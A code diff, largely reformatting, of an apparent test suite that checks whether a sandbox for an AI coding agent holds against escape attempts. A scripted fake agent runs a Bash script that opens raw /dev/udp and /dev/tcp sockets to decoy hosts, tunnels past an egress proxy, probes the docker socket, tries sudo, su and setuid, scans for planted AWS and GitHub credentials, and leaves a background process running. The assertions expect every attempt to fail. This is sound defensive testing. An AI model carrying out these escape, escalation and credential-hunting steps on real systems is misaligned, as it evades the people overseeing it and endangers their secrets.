@@ -68,7 +68,8 @@ describe('escape attempts from the bottle', () => {
     const { v4, v6 } = decoy
     const dnsQuery = '\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x07example\\x03com\\x00\\x00\\x01\\x00\\x01'
     /** a DNS query over UDP to host:53 that says how many bytes came back; fails when none did */
-    const udpAsk = (host: string) => `'exec 3<>/dev/udp/${host}/53 || exit 1; printf "${dnsQuery}" >&3; n=$(timeout 3 head -c 2 <&3 | wc -c); echo "answer bytes $n"; test "$n" -gt 0'`
+    const udpAsk = (host: string) =>
+      `'exec 3<>/dev/udp/${host}/53 || exit 1; printf "${dnsQuery}" >&3; n=$(timeout 3 head -c 2 <&3 | wc -c); echo "answer bytes $n"; test "$n" -gt 0'`
     const script = `
 ${ATTEMPT}
 np='env -u HTTP_PROXY -u HTTPS_PROXY -u http_proxy -u https_proxy -u NO_PROXY -u no_proxy' # a command, not a function: timeout runs it
@@ -99,12 +100,20 @@ printf '%s\\n' ${split(KEY)} ${split(GH_TOKEN)} ${split(CHECKOUT_TOKEN)} ${split
 setsid sleep 4242 > /dev/null 2>&1 < /dev/null &
 sleep 0.2; kill -0 $! && echo started > leftover.txt
 true`
-    const api = await startAnthropicDouble({ turns: [{ tool_use: { name: 'Bash', input: { command: script, description: 'try to get out' } } }, { text: 'done' }] }, { expectedKey: KEY })
+    const api = await startAnthropicDouble(
+      { turns: [{ tool_use: { name: 'Bash', input: { command: script, description: 'try to get out' } } }, { text: 'done' }] },
+      { expectedKey: KEY }
+    )
     try {
       const r = await runAction({
         inputs: { prompt: 'p', ...suite.inputs(api, ws, KEY), 'github-token': GH_TOKEN, 'allowed-hosts': 'allowed.example' },
         runnerTemp: path.join(suite.dir, 'rt'),
-        env: { AWS_ACCESS_KEY_ID: 'ASIAESCAPESUITE12345', AWS_SECRET_ACCESS_KEY: AWS_SECRET, AWS_SESSION_TOKEN: AWS_SESSION, GOOGLE_APPLICATION_CREDENTIALS: adcFile },
+        env: {
+          AWS_ACCESS_KEY_ID: 'ASIAESCAPESUITE12345',
+          AWS_SECRET_ACCESS_KEY: AWS_SECRET,
+          AWS_SESSION_TOKEN: AWS_SESSION,
+          GOOGLE_APPLICATION_CREDENTIALS: adcFile
+        },
         toolCache: suite.toolCache
       })
       const log = visibleLog(r.main.stdout, r.main.stderr)
@@ -125,7 +134,8 @@ true`
         'connect-not-allowed': expect.stringMatching(/^failed curl: \(56\) CONNECT tunnel failed, response 403/),
         'connect-ip-literal': expect.stringMatching(/^failed curl: \(56\) CONNECT tunnel failed, response 403/),
         'http-host-mismatch': expect.stringMatching(/^failed curl: \(22\) The requested URL returned error: 403/),
-        'docker-socket': "failed ls: cannot access '/var/run/docker.sock': No such file or directory ls: cannot access '/run/docker.sock': No such file or directory",
+        'docker-socket':
+          "failed ls: cannot access '/var/run/docker.sock': No such file or directory ls: cannot access '/run/docker.sock': No such file or directory",
         sudo: expect.stringMatching(/^failed sudo: The "no new privileges" flag is set, which prevents sudo from running as root\./),
         su: 'failed Password: su: Authentication failure', // not setuid under no-new-privs: it cannot read the empty password
         setuid: 'failed euid 1001',
@@ -135,7 +145,11 @@ true`
       expect(decoy.hits()).toEqual([])
       expect(hostHits).toBe(0)
       // the attempts that reached the egress proxy are in its log
-      const egress = fs.readFileSync(path.join(r.outputs['transcript-dir']!, 'egress.jsonl'), 'utf8').trim().split('\n').map(l => JSON.parse(l))
+      const egress = fs
+        .readFileSync(path.join(r.outputs['transcript-dir']!, 'egress.jsonl'), 'utf8')
+        .trim()
+        .split('\n')
+        .map(l => JSON.parse(l))
       expect(egress.map(d => [d.method, d.host, d.decision, d.rule])).toEqual([
         ['CONNECT', 'decoy.example', 'blocked', 'not-allowed'],
         ['CONNECT', v4.decoy, 'blocked', 'not-allowed'],
@@ -146,22 +160,41 @@ true`
       expect(read('scan.txt')).toMatch(/^scan exit [12]\n$/) // grep finished: 124 would be the timeout, and a scan cut short proves nothing
       expect(read('leftover.txt')).toBe('started\n')
       // the process the agent left behind went with the bottle
-      expect(execFileSync('ps', ['-eo', 'args'], { encoding: 'utf8' }).split('\n').filter(a => a.startsWith('sleep 4242'))).toEqual([])
-      for (const secret of [KEY, GH_TOKEN, CHECKOUT_TOKEN, BASIC, AWS_SECRET, AWS_SESSION]) expect(visibleLog(r.main.stdout, r.main.stderr, r.post.stdout).includes(secret)).toBe(false)
+      expect(
+        execFileSync('ps', ['-eo', 'args'], { encoding: 'utf8' })
+          .split('\n')
+          .filter(a => a.startsWith('sleep 4242'))
+      ).toEqual([])
+      for (const secret of [KEY, GH_TOKEN, CHECKOUT_TOKEN, BASIC, AWS_SECRET, AWS_SESSION])
+        expect(visibleLog(r.main.stdout, r.main.stderr, r.post.stdout).includes(secret)).toBe(false)
 
       // control: from an ordinary container the same decoy answers, so the test above can fail
-      const control = execFileSync('docker', ['run', '--rm', '--network', 'bridge', GUEST_IMAGE, 'curl', '-sS', '--max-time', '5', `http://${v4.decoy}:8080/`], { encoding: 'utf8', timeout: 30_000 })
+      const control = execFileSync(
+        'docker',
+        ['run', '--rm', '--network', 'bridge', GUEST_IMAGE, 'curl', '-sS', '--max-time', '5', `http://${v4.decoy}:8080/`],
+        { encoding: 'utf8', timeout: 30_000 }
+      )
       expect(control).toBe('decoy\n')
       expect(decoy.hits()).toEqual([{ kind: 'tcp', from: expect.any(String) }]) // masqueraded by docker's NAT
       // the same IPv6 and UDP attempts, from the host's network, reach the decoy: their walls are real too
-      const fromHost = (cmd: string) => execFileSync('docker', ['run', '--rm', '--network', 'host', GUEST_IMAGE, 'bash', '-c', cmd], { encoding: 'utf8', timeout: 30_000 })
+      const fromHost = (cmd: string) =>
+        execFileSync('docker', ['run', '--rm', '--network', 'host', GUEST_IMAGE, 'bash', '-c', cmd], { encoding: 'utf8', timeout: 30_000 })
       expect(fromHost(`curl -sS -g --max-time 5 'http://[${v6.decoy}]:8080/'`)).toBe('decoy\n')
       expect(fromHost(`exec 3<>/dev/tcp/${v6.decoy}/8080 && cat <&3`)).toContain('decoy')
-      for (const host of [v4.decoy, v6.decoy]) expect(fromHost(`exec 3<>/dev/udp/${host}/53; printf '${dnsQuery}' >&3; timeout 3 head -c 2 <&3 | wc -c`)).toBe('2\n')
+      for (const host of [v4.decoy, v6.decoy])
+        expect(fromHost(`exec 3<>/dev/udp/${host}/53; printf '${dnsQuery}' >&3; timeout 3 head -c 2 <&3 | wc -c`)).toBe('2\n')
       expect(decoy.hits().map(h => h.kind)).toEqual(['tcp', 'tcp', 'tcp', 'udp', 'udp'])
       // the ways back to root work in an ordinary container (as a user with a passwd entry, for sudo): only the walls stop them
-      const rootControl = execFileSync('docker', ['run', '--rm', '--user', '65534:65534', GUEST_IMAGE, 'bash', '-c', `${ATTEMPT}\n${ROOT_ATTEMPTS}`], { encoding: 'utf8', timeout: 30_000 })
-      expect(rootControl.trim().split('\n')).toEqual(['sudo: SUCCEEDED 0 ', 'su: SUCCEEDED 0 ', 'setuid: SUCCEEDED euid 0 ', expect.stringMatching(/^mount: failed mount: \/mnt: must be superuser/)])
+      const rootControl = execFileSync('docker', ['run', '--rm', '--user', '65534:65534', GUEST_IMAGE, 'bash', '-c', `${ATTEMPT}\n${ROOT_ATTEMPTS}`], {
+        encoding: 'utf8',
+        timeout: 30_000
+      })
+      expect(rootControl.trim().split('\n')).toEqual([
+        'sudo: SUCCEEDED 0 ',
+        'su: SUCCEEDED 0 ',
+        'setuid: SUCCEEDED euid 0 ',
+        expect.stringMatching(/^mount: failed mount: \/mnt: must be superuser/)
+      ])
     } finally {
       await api.close()
     }
